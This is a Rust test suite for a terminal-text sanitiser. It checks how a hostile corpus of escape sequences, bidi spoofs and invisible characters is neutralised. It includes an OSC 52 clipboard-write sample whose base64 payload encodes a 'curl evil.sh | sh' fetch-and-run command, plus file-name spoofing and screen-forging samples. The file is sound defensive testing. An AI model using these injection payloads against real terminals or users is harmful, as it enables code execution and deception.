//! The sanitiser against the hostile corpus and against arbitrary input.

use std::borrow::Cow;

use proptest::prelude::*;
use unibox::text::{
    BLOCK_GROWTH, LINE_GROWTH, MAX_MARKS_IN_A_ROW, display_width, sanitize_block, sanitize_line,
};
use unibox_sandbox::hostile::{self, HostileText};

/// Samples that must come out exactly like this: (name, one-line form, block form if different).
const EXPECTED: &[(&str, &str, Option<&str>)] = &[
    ("csi_clear_screen", "before␛[2Jafter", None),
    (
        "csi_cursor_movement",
        "safe␛[1A␛[2K␛[10;5Hforged line",
        None,
    ),
    ("sgr_conceal", "visible␛[8msecret␛[0m", None),
    ("osc0_window_title", "␛]0;pwned␇title", None),
    (
        "osc52_clipboard_write",
        "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇copied",
        None,
    ),
    (
        "osc8_hyperlink",
        "␛]8;;https://evil.example/␛\\click me␛]8;;␛\\",
        None,
    ),
    ("dcs_capability_query", "␛P+q544e␛\\after", None),
    ("apc_graphics", "␛_Gf=100;AAAA␛\\after", None),
    ("pm_and_sos", "␛^private␛\\␛Xstring␛\\after", None),
    ("c1_csi", "␦2Jcleared", None),
    ("c1_osc", "␦0;title␦after", None),
    ("c1_nel", "one␦two", None),
    ("nul", "a␀b", None),
    ("bel", "ding␇␇␇", None),
    ("backspaces", "password: hunter2␈␈␈␈␈␈␈*******", None),
    (
        "cr_overwrite",
        "Transfer to Alice Transfer to Mallory",
        Some("Transfer to Alice\nTransfer to Mallory"),
    ),
    ("crlf", "line one line two", Some("line one\nline two")),
    ("del", "abc␡def", None),
    ("tabs", "col1 col2 col3", Some("col1    col2    col3")),
    ("vertical_tab_form_feed", "a␋b␌c", None),
    ("rlo_file_name", "invoice_⇆fdp.exe", None),
    ("bidi_isolates", "⇆admin⇆ ⇆user⇆ ⇆x⇆", None),
    ("bidi_embeddings", "⇆ltr⇆⇆rtl⇆⇆lro⇆", None),
    ("bidi_marks", "a⇆b⇆c⇆d", None),
    ("zero_width_space", "pay␣pal", None),
    ("byte_order_mark", "␣hello", None),
    ("word_joiner_soft_hyphen", "ad␣mi␣n", None),
    ("line_separators", "one two three", Some("one\ntwo\nthree")),
    ("tag_smuggling", "hi␣␣␣␣␣␣␣", None),
    ("hangul_filler_name", "␣␣␣", None),
    (
        "zalgo",
        "Z\u{351}\u{36B}\u{343}\u{346}\u{352}\u{302}\u{310}\u{314}␦\
         a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}␦lgo",
        None,
    ),
];

/// Samples that need no change at all: emoji sequences and scripts, byte for byte.
const UNCHANGED: &[&str] = &[
    "zero_width_non_joiner",
    "lone_combining_mark",
    "zwj_family",
    "zwj_kiss_skin_tones",
    "flags",
    "subdivision_flag",
    "skin_tones",
    "keycaps",
    "variation_selector_16",
    "cjk",
    "fullwidth",
    "japanese",
    "korean",
    "arabic",
    "hebrew",
    "mixed_direction",
    "devanagari",
    "thai",
];

fn sample(name: &str) -> &'static HostileText {
    hostile::SHORT
        .iter()
        .find(|sample| sample.name == name)
        .unwrap_or_else(|| panic!("no sample named {name}"))
}

/// What no sanitised text may contain: controls (C0 but `\n`, DEL, C1), bidi controls and the
/// invisible characters that can hide or disguise content.
fn is_forbidden(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{061C}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
                | '\u{200B}'
                | '\u{2060}'
                | '\u{FEFF}'
                | '\u{AD}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{3164}'
        )
}

/// Tag characters are allowed only inside an emoji tag sequence (flag, tags, cancel tag).
fn has_stray_tag(text: &str) -> bool {
    let mut in_sequence = false;
    let mut previous = None;
    for c in text.chars() {
        let is_tag = ('\u{E0000}'..='\u{E007F}').contains(&c);
        if is_tag && !in_sequence && previous != Some('\u{1F3F4}') {
            return true;
        }
        in_sequence = is_tag && c != '\u{E007F}';
        previous = Some(c);
    }
    in_sequence
}

/// Visible letters and digits, in order: what a reader must still be able to read.
fn readable(text: &str) -> String {
    text.chars()
        .filter(|&c| c.is_alphanumeric() && !is_forbidden(c))
        .collect()
}

fn assert_safe(name: &str, input: &str, output: &str, one_line: bool) {
    assert!(
        !output.chars().any(is_forbidden),
        "{name}: forbidden character left in {output:?}"
    );
    assert!(
        !has_stray_tag(output),
        "{name}: stray tag character in {output:?}"
    );
    assert!(
        !(one_line && output.contains('\n')),
        "{name}: a line holds a line break"
    );
    assert_eq!(
        readable(output),
        readable(input),
        "{name}: readable content changed"
    );
}

#[test]
fn every_short_sample_has_an_expectation() {
    for sample in hostile::SHORT {
        let covered = EXPECTED.iter().any(|(name, ..)| *name == sample.name)
            || UNCHANGED.contains(&sample.name);
        assert!(
            covered,
            "{} has no expected output in this test",
            sample.name
        );
    }
}

#[test]
fn hostile_samples_come_out_exactly_as_expected() {
    for (name, line, block) in EXPECTED {
        let text = &sample(name).text;
        assert_eq!(sanitize_line(text), *line, "{name} as a line");
        assert_eq!(
            sanitize_block(text),
            block.unwrap_or(line),
            "{name} as a block"
        );
    }
}

#[test]
fn emoji_and_scripts_pass_byte_for_byte_without_copying() {
    for name in UNCHANGED {
        let text = &sample(name).text;
        assert!(
            matches!(sanitize_line(text), Cow::Borrowed(out) if out == text),
            "{name}"
        );
        assert!(
            matches!(sanitize_block(text), Cow::Borrowed(out) if out == text),
            "{name}"
        );
    }
}

#[test]
fn every_sample_is_safe_readable_and_stable() {
    for HostileText { name, text } in hostile::corpus() {
        let line = sanitize_line(&text);
        let block = sanitize_block(&text);
        assert_safe(name, &text, &line, true);
        assert_safe(name, &text, &block, false);
        assert_eq!(sanitize_line(&line), line, "{name}: line not idempotent");
        assert_eq!(
            sanitize_block(&block),
            block,
            "{name}: block not idempotent"
        );
    }
}

#[test]
fn the_big_samples_keep_their_shape() {
    let many = hostile::many_lines();
    let block = sanitize_block(&many.text);
    assert!(matches!(block, Cow::Borrowed(_)));
    assert_eq!(block.lines().count(), 10_000);
    assert_eq!(sanitize_line(&many.text).lines().count(), 1);

    let huge = hostile::huge_line();
    assert!(huge.text.len() >= 100 * 1024);
    assert!(matches!(sanitize_line(&huge.text), Cow::Borrowed(_)));
}

#[test]
fn wide_scripts_take_two_columns_per_character() {
    for name in ["cjk", "fullwidth", "japanese", "korean"] {
        let text = &sample(name).text;
        assert_eq!(display_width(text), 2 * text.chars().count(), "{name}");
    }
}

/// Characters that stress the sanitiser: every control range, bidi, invisibles, joiners,
/// marks, tags and emoji parts, mixed with anything at all.
fn tricky_char() -> impl Strategy<Value = char> {
    prop_oneof![
        any::<char>(),
        prop::char::range('\0', '\x1f'),
        Just('\x7f'),
        prop::char::range('\u{80}', '\u{9f}'),
        prop::char::range('\u{2028}', '\u{202E}'),
        prop::char::range('\u{2060}', '\u{206F}'),
        prop::sample::select(vec![
            '\u{061C}',
            '\u{200B}',
            '\u{200C}',
            '\u{200D}',
            '\u{200E}',
            '\u{200F}',
            '\u{FEFF}',
            '\u{AD}',
            '\u{3164}',
            '\u{FE0F}',
            '\u{20E3}',
            '\u{1F3F4}',
            '\u{1F3FB}',
            '\u{1F468}',
            '\u{1F1EB}',
            '\u{1F1F7}',
            '\u{E007F}',
            '\r',
            '\n',
            '\t',
            ' ',
            'a',
            '你',
        ]),
        prop::char::range('\u{300}', '\u{36F}'),
        prop::char::range('\u{E0000}', '\u{E0080}'),
    ]
}

fn tricky_text() -> impl Strategy<Value = String> {
    prop::collection::vec(tricky_char(), 0..48).prop_map(|chars| chars.into_iter().collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn line_output_is_safe_stable_and_bounded(text in tricky_text()) {
        let once = sanitize_line(&text);
        prop_assert!(!once.chars().any(|c| is_forbidden(c) || c == '\n'), "{:?}", once);
        prop_assert!(!has_stray_tag(&once), "{:?}", once);
        prop_assert_eq!(&sanitize_line(&once), &once);
        prop_assert!(once.len() <= LINE_GROWTH * text.len());
        prop_assert!(matches!(once, Cow::Borrowed(_)) || once != text, "copied for nothing");
    }

    #[test]
    fn block_output_is_safe_stable_and_bounded(text in tricky_text()) {
        let once = sanitize_block(&text);
        prop_assert!(!once.chars().any(is_forbidden), "{:?}", once);
        prop_assert!(!has_stray_tag(&once), "{:?}", once);
        prop_assert_eq!(&sanitize_block(&once), &once);
        prop_assert!(once.len() <= BLOCK_GROWTH * text.len());
        prop_assert!(matches!(once, Cow::Borrowed(_)) || once != text, "copied for nothing");
    }

    #[test]
    fn marks_never_pile_up(base in "[a-z]", marks in prop::collection::vec(prop::char::range('\u{300}', '\u{36F}'), 0..40)) {
        let text: String = std::iter::once(base.clone()).chain(marks.iter().map(char::to_string)).collect();
        let out = sanitize_line(&text);
        let kept = out.chars().filter(|c| ('\u{300}'..='\u{36F}').contains(c)).count();
        prop_assert_eq!(kept, marks.len().min(MAX_MARKS_IN_A_ROW));
        prop_assert_eq!(out.ends_with('␦'), marks.len() > MAX_MARKS_IN_A_ROW);
    }
}
